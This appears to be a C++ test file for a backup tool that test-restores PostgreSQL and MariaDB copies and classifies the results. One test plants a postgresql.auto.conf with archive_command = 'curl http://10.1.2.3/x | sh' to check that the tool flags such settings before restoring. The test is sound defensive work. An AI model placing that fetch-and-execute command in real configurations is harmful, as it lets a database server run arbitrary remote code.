// SPDX-FileCopyrightText: 2026 The lastgood authors
// SPDX-License-Identifier: Apache-2.0
// Proves what a restore test keeps of a copy: one whose files went away while it was tried, or whose engine hung, is
// not called bad, and an older copy is tried; one that is there and does not start is.
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "casefile/testing/memory_case_store.h"
#include "ledger/ledger.h"
#include "os/testing/scratch_folder.h"
#include "readiness/check_services.h"
#include "recovery/case_sources.h"
#include "services/check_record.h"

namespace lastgood::readiness {
namespace {

class NoPassword final : public recovery::PasswordPrompt {
 public:
  std::optional<std::string> ask(const std::string& /*question*/) override { return std::nullopt; }
};

class Quiet final : public CheckProgress {
 public:
  void step(const std::string& /*what*/) override {}
  void waiting(const std::string& /*what*/, const engines::StartWait& /*wait*/) override {}
  void tried(const services::DataTrial& /*trial*/) override {}
  [[nodiscard]] bool cancelled() const override { return is_cancelled; }
  bool is_cancelled = false;
};

/// An engine that does as `tries` says of the snapshot's day.
class FakeTrials final : public SheetTrials {
 public:
  std::function<base::Result<engines::ScratchStart>(const std::string& snapshot)> tries;
  std::vector<services::SheetTrial> sheets;  // how they ended
  [[nodiscard]] TriedSheets try_sheets(const services::Service& /*service*/, const services::DataUnit& /*data*/,
                                       const recovery::UnitCopy& copy, const recovery::OpenedCopy& /*opened*/,
                                       engines::StartWatcher& /*watcher*/) override {
    return {.start = tries(copy.snapshot.id), .sheets = sheets};
  }
};

class TryCopies : public ::testing::Test {
 protected:
  void SetUp() override {
    ledger_ = ledger::create_ledger(folder_ / "").value();
    model::BackupSource source{.name = "nas", .address = "folder:" + (folder_ / "nas"), .format = "folder"};
    source.stored_prefix = "/pg";
    source.live_prefix = "/srv/pg";
    for (const char* day : {"2022-11-21", "2022-11-22"}) {
      std::filesystem::create_directories(newest(day) + "/base/1");
      for (const char* file : {"/PG_VERSION", "/base/1/112", "/base/1/113"}) std::ofstream(newest(day) + file) << "15";
    }
    ASSERT_TRUE(store_.backups().put_source(source).ok());
    const auto opened = recovery::open_case_source(store_, source, {}, prompt_);
    ASSERT_TRUE(opened.ok()) << opened.error().what;
    std::vector<model::JudgedSnapshot> judged;
    std::vector<model::JudgedUnit> units;
    const auto snapshots = opened.value()->snapshots();
    ASSERT_TRUE(snapshots.ok());
    for (const model::Snapshot& snapshot : snapshots.value()) {
      judged.emplace_back().snapshot = snapshot;
      units.push_back(
          {.snapshot = snapshot.id, .kind = "postgresql", .path = "/pg", .state = "consistent", .data_as_of_ns = 1});
    }
    ASSERT_EQ(units.size(), 2U);
    ASSERT_TRUE(store_.backups().record_snapshots("nas", judged, units).ok());
  }

  [[nodiscard]] std::string newest(const std::string& day = "2022-11-22") const {
    return folder_ / ("nas/" + day + "/pg");
  }

  services::DataTrial check(const std::string& data = "kind=\"postgresql\"\npath=\"/srv/pg\"\n") {
    const auto read = services::parse_services(
        "[service.db]\n[[service.db.data]]\n" + data + "[[service.db.sheet]]\nid=\"x\"\nsql=\"SELECT 1\"\n", "s");
    const CheckRequest request{.case_folder = folder_ / "", .scratch_folder = folder_ / "", .sheet_trials = &trials_};
    const auto outcome = check_services(read.file, request, store_, *ledger_, prompt_, quiet_);
    EXPECT_TRUE(outcome.ok());
    if (outcome.value().cancelled) return {.sentence = fmt::format("{} kept", outcome.value().record.data.size())};
    sheet_ = outcome.value().record.sheets.at(0).sentence;
    return outcome.value().record.data.at(0);
  }

  static base::Error dies(base::ErrorCode code, const std::string& what) { return {.code = code, .what = what}; }

  os::testing::ScratchFolder folder_;
  casefile::testing::MemoryCaseStore store_;
  std::unique_ptr<ledger::Ledger> ledger_;
  NoPassword prompt_;
  FakeTrials trials_;
  Quiet quiet_;
  std::string sheet_;  // what was said of it
};

TEST_F(TryCopies, OneThatIsThereAndDoesNotStartHasFailed) {
  trials_.tries = [](const std::string& /*snapshot*/) {
    return dies(base::ErrorCode::damaged_source, "PostgreSQL does not start on this copy");
  };
  const services::DataTrial trial = check();
  EXPECT_EQ(trial.outcome, services::TrialOutcome::failed);
}

TEST_F(TryCopies, OneWithATableThatItsEngineEmptiesPassesAndSaysSo) {
  trials_.tries = [](const std::string& /*snapshot*/) {
    return engines::ScratchStart{.emptied = {"public.draft (database his)"}};
  };
  const services::DataTrial trial = check();
  EXPECT_EQ(trial.outcome, services::TrialOutcome::passed);
  EXPECT_TRUE(trial.complaints.empty());
  EXPECT_TRUE(trial.sentence.ends_with(
      "no table refused to; unlogged: empty after a restore, as PostgreSQL does it: public.draft (database his)"))
      << trial.sentence;
}

TEST_F(TryCopies, SettingsThatTheServiceWouldObeyAreNamedBeforeAnythingIsRestored) {
  trials_.tries = [](const std::string& /*snapshot*/) { return engines::ScratchStart{}; };
  std::ofstream(newest() + "/postgresql.auto.conf") << "# by hand\narchive_command = 'curl http://10.1.2.3/x | sh'\n";
  const std::string named = "(postgresql.auto.conf:2 archive_command = 'curl http://10.1.2.3/x | sh')";
  const services::DataTrial trial = check();
  EXPECT_EQ(trial.outcome, services::TrialOutcome::passed);
  EXPECT_NE(trial.sentence.find(named + ": 'services start' does not start it"), std::string::npos) << trial.sentence;
  const services::DataTrial read =
      check("kind=\"postgresql\"\npath=\"/srv/pg\"\nallow_settings=[\"archive_command\"]\n");
  EXPECT_EQ(read.sentence.find("archive_command"), std::string::npos) << read.sentence;
}

TEST_F(TryCopies, OneThatFailsAfterCtrlCIsNotKeptAsAFailedTest) {
  trials_.tries = [&](const std::string& /*snapshot*/) {
    quiet_.is_cancelled = true;
    return dies(base::ErrorCode::damaged_source, "PostgreSQL does not start on this copy");
  };
  EXPECT_EQ(check().sentence, "0 kept");
}

TEST_F(TryCopies, OneThatWentAwayMeanwhileIsNotCalledBad) {
  trials_.tries = [&](const std::string& snapshot) -> base::Result<engines::ScratchStart> {
    const std::string folder = folder_ / ("nas/" + snapshot + "/pg/base");
    std::filesystem::rename(folder, folder + ".away");
    return dies(base::ErrorCode::damaged_source, "database \"template1\" does not exist");
  };
  const services::DataTrial trial = check();
  EXPECT_EQ(trial.outcome, services::TrialOutcome::not_tried);
  EXPECT_NE(trial.sentence.find("could not be read to the end: 'pg/base' and 3 others are gone"), std::string::npos)
      << trial.sentence;
  EXPECT_EQ(trial.sentence.find("template1"), std::string::npos);
  EXPECT_EQ(trial.proof, services::Proof::none);
}

TEST_F(TryCopies, OneWhoseTablesStoppedAnsweringBecauseItWentAwayIsNotKeptAsATestWithComplaints) {
  trials_.tries = [&](const std::string& snapshot) {
    std::filesystem::remove(folder_ / ("nas/" + snapshot + "/pg/base/1/113"));
    engines::ScratchStart start;
    start.unusable = {"file base/1/113: cannot open"};
    return start;
  };
  const services::DataTrial trial = check();
  EXPECT_EQ(trial.outcome, services::TrialOutcome::not_tried);
  EXPECT_NE(trial.sentence.find("'pg/base/1/113' is gone"), std::string::npos) << trial.sentence;
  EXPECT_TRUE(trial.complaints.empty());
}

TEST_F(TryCopies, AfterOneThatWentAwayTheNextOlderOneIsTried) {
  trials_.tries = [&](const std::string& snapshot) -> base::Result<engines::ScratchStart> {
    if (snapshot.find("11-21") != std::string::npos) return engines::ScratchStart{};
    std::filesystem::remove_all(newest() + "/base");
    return dies(base::ErrorCode::io, "went away while it was copied");
  };
  const services::DataTrial trial = check();
  EXPECT_EQ(trial.outcome, services::TrialOutcome::passed);
  EXPECT_NE(trial.sentence.find("could not be read to the end"), std::string::npos) << trial.sentence;
}

TEST_F(TryCopies, WhereNoCopyIsADatabaseItIsSaidWhatTheNewestBackupHasThere) {
  const auto judged = store_.backups().snapshots("nas").value();
  ASSERT_TRUE(store_.backups().record_snapshots("nas", judged, {}).ok());
  const services::DataTrial trial = check();
  EXPECT_EQ(trial.outcome, services::TrialOutcome::no_copy);
  EXPECT_NE(
      trial.sentence.find("the newest backup of it, 'nas 2022-11-22', has a folder there, no postgresql; a backup "
                          "from before that is needed"),
      std::string::npos)
      << trial.sentence;
  const services::DataTrial file = check("kind=\"sqlite\"\npath=\"/srv/pg/PG_VERSION\"\n");
  EXPECT_NE(file.sentence.find("has a file there that was not judged, no sqlite"), std::string::npos) << file.sentence;
  const services::DataTrial none = check("kind=\"sqlite\"\npath=\"/srv/pg/none\"\n");
  EXPECT_NE(none.sentence.find("add its backup with 'backups add'"), std::string::npos) << none.sentence;
}

TEST_F(TryCopies, OfADamagedCopyWhoseTablesOpenItIsSaidThatSheetsFailedAllTheSame) {
  const auto judged = store_.backups().snapshots("nas").value();
  const std::vector<model::JudgedUnit> units = {
      {.snapshot = judged.back().snapshot.id, .kind = "mariadb", .path = "/pg", .state = "damaged"}};
  ASSERT_TRUE(store_.backups().record_snapshots("nas", judged, units).ok());
  const std::string mariadb = "kind=\"mariadb\"\npath=\"/srv/pg\"\n";
  trials_.tries = [](const std::string& /*snapshot*/) { return engines::ScratchStart{}; };
  trials_.sheets = {
      {.service = "db", .sheet = "x", .outcome = services::TrialOutcome::failed, .sentence = "invalid page"}};
  const std::string failed = check(mariadb).sentence;
  EXPECT_NE(failed.find("but 1 of 1 sheet failed over what is in them"), std::string::npos) << failed;
  EXPECT_NE(failed.find("rows that no sheet asks for were not read"), std::string::npos) << failed;
  trials_.sheets[0].outcome = services::TrialOutcome::passed;
  const std::string well = check(mariadb).sentence;
  EXPECT_EQ(well.find("failed"), std::string::npos) << well;
  EXPECT_NE(well.find("rows were read where sheets ask, and nowhere else"), std::string::npos) << well;
}

TEST_F(TryCopies, AnEngineThatHangsSaysNothingOfTheCopy) {
  trials_.tries = [](const std::string& /*snapshot*/) {
    return dies(base::ErrorCode::limit_reached, "PostgreSQL hangs on this copy: for 30 seconds it has done nothing");
  };
  const services::DataTrial trial = check();
  EXPECT_EQ(trial.outcome, services::TrialOutcome::not_tried);
  EXPECT_NE(trial.sentence.find("PostgreSQL hangs on this copy"), std::string::npos) << trial.sentence;
  EXPECT_EQ(sheet_, "its data 'postgresql' could not be tried to the end");
}

TEST(Checks, AreKeptUnderNumbersAndReadBack) {
  const os::testing::ScratchFolder scratch;
  services::CheckRecord record;
  record.made_ns = 1'669'187'218'000'000'000;
  record.data.push_back({.service = "db",
                         .data = "main",
                         .kind = "postgresql",
                         .path = "/pg",
                         .outcome = services::TrialOutcome::passed,
                         .proof = services::Proof::started,
                         .sentence = "it started",
                         .source = "nas",
                         .snapshot = "3fa1",
                         .snapshot_ns = 1'669'180'000'000'000'000,
                         .data_as_of_ns = 1'669'187'218'000'000'000,
                         .bytes = 7,
                         .files = 2,
                         .seconds = 1.5});
  ASSERT_TRUE(services::keep_check(record, scratch.path()).ok());
  record.data[0].outcome = services::TrialOutcome::failed;
  record.made_ns += 1;
  const auto kept = services::keep_check(record, scratch.path());
  ASSERT_TRUE(kept.ok());
  EXPECT_EQ(kept.value().number, 2U);
  services::CheckRecord untried = record;  // its engine hung, or its disk was pulled out: what was known stays known
  untried.data[0].outcome = services::TrialOutcome::not_tried;
  untried.data.push_back(untried.data[0]);
  untried.data[1].data = "new";
  ASSERT_TRUE(services::keep_check(untried, scratch.path()).ok());
  std::ofstream(scratch.path() + "/services/checks/0004.json") << "{\"data\":[{}]";
  const auto all = services::read_checks(scratch.path());
  ASSERT_TRUE(all.ok());
  EXPECT_EQ(all.value().records.size(), 3U);
  EXPECT_EQ(all.value().unreadable.size(), 1U);
  const auto [trial, made_ns] = all.value().newest("db", "main", "/pg");
  ASSERT_NE(trial, nullptr);
  EXPECT_EQ(trial->outcome, services::TrialOutcome::failed);
  EXPECT_EQ(made_ns, record.made_ns);
  EXPECT_EQ(trial->data_as_of_ns, record.data[0].data_as_of_ns);
  EXPECT_EQ(all.value().newest("db", "main", "/moved").first, nullptr);
  ASSERT_NE(all.value().newest("db", "new", "/pg").first, nullptr);
  EXPECT_EQ(all.value().newest("db", "new", "/pg").first->outcome, services::TrialOutcome::not_tried);
}

}  // namespace
}  // namespace lastgood::readiness
